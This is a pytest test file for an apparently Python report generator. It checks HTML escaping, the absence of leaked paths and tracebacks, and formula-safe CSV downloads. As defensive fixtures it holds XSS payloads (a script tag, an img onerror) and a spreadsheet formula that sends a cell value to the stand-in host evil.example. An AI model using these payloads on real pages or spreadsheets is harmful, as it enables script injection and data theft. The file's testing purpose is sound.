"""Reports are safe to share: text from the data is escaped, and no machine paths or tracebacks reach the HTML."""

from __future__ import annotations

import base64
import csv
import io
import re
import shutil
from pathlib import Path

import pandas as pd
import pytest

from analysis.publish import driver
from analysis.publish.config import expand

ROOT = Path(__file__).resolve().parents[1]
ATTACK = '<script>alert(1)</script> & <img src=x onerror="alert(2)">'
# A title that a spreadsheet would run as a formula (OWASP CSV injection) if the report's CSV download kept it as is
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Details")'
FORMULA_PROJECT = "katowice-wlacz-sie"
CHROMIUM = shutil.which("chromium")


@pytest.fixture(scope="module")
def hostile_reports(tmp_path_factory):
    """The overview and a profile built from processed data whose titles and quotes hold markup, and one
    project whose title is a spreadsheet formula."""
    base = tmp_path_factory.mktemp("hostile")
    shutil.copytree(ROOT / "notebooks", base / "notebooks")
    shutil.copytree(ROOT / "data" / "processed", base / "data" / "processed")
    processed = base / "data" / "processed"
    projects = pd.read_csv(processed / "projects.csv", dtype=str, keep_default_na=False)
    row = projects["project_id"] == "knurow-cwis"
    for col in ("title", "title_en", "operator"):
        projects.loc[row, col] = ATTACK
    for col in ("title", "title_en"):
        projects.loc[projects["project_id"] == FORMULA_PROJECT, col] = FORMULA
    projects.to_csv(processed / "projects.csv", index=False, lineterminator="\n")
    figures = pd.read_csv(processed / "figures.csv", dtype=str, keep_default_na=False)
    figures.loc[figures["project_id"] == "knurow-cwis", "quote"] = ATTACK
    figures.to_csv(processed / "figures.csv", index=False, lineterminator="\n")
    out = base / "reports"
    specs = expand(base / "notebooks" / "reports.yml", processed / "projects.csv", reports_dir=out)
    chosen = [s for s in specs if s.name in ("overview", "pl/overview", "projects/knurow-cwis")]
    result = driver.build(chosen, reports_dir=out, processed_dir=processed, jobs=1, progress=False)  # and the index
    assert not result.failed, result.failed
    return out, [s.output for s in chosen] + [out / "index.html"]


@pytest.mark.slow
def test_markup_from_the_data_is_escaped_in_every_report(hostile_reports):
    out, pages = hostile_reports
    for page in pages:
        html = page.read_text(encoding="utf-8")
        assert "<script>alert(1)</script>" not in html, page.name
        assert "<img src=x" not in html, page.name  # only the escaped text '&lt;img src=x …' may appear
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html, f"{page.name}: the hostile title is not shown"


@pytest.mark.slow
@pytest.mark.browser
@pytest.mark.skipif(CHROMIUM is None, reason="Debian's chromium is not installed: the page is not opened")
def test_markup_shows_as_text_in_the_browser(hostile_reports):
    from playwright.sync_api import sync_playwright

    out, pages = hostile_reports
    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox", "--disable-gpu",
                                                                   "--disable-background-networking"])
        for page_path in pages:
            page = browser.new_page()
            dialogs: list[str] = []
            page.on("dialog", lambda d, seen=dialogs: (seen.append(d.message), d.dismiss()))
            page.goto(page_path.as_uri(), wait_until="load")
            assert not dialogs, f"{page_path.name}: script ran {dialogs}"
            assert "<script>alert(1)</script>" in page.inner_text("body"), page_path.name
            assert page.locator("img[src='x']").count() == 0
            page.close()
        browser.close()


@pytest.mark.slow
def test_reports_hold_no_machine_paths_tracebacks_or_environment(hostile_reports):
    out, pages = hostile_reports
    leaks = re.compile(r"(/work/|/root/|/home/|/tmp/|site-packages|\.venv|Traceback \(most recent call last\)|"
                       r"PYTHONPATH|VIRTUAL_ENV)")
    for page in pages:
        found = leaks.search(page.read_text(encoding="utf-8"))
        assert not found, f"{page.name}: {found.group(0)!r}"


@pytest.mark.slow
def test_csv_downloads_hold_no_formula_a_spreadsheet_would_run(hostile_reports):
    """The key table's CSV (a data: link in the page) prefixes the formula title with a quote (OWASP)."""
    out, pages = hostile_reports
    links = re.compile(r'href="data:text/csv;charset=utf-8;base64,([A-Za-z0-9+/=]+)"')
    tables = [base64.b64decode(m).decode("utf-8-sig") for page in pages
              for m in links.findall(page.read_text(encoding="utf-8"))]
    assert tables, "no CSV download in the reports"
    cells = [cell for text in tables for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    assert "'" + FORMULA in cells, "the formula title is not in any download (so this test would prove nothing)"
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
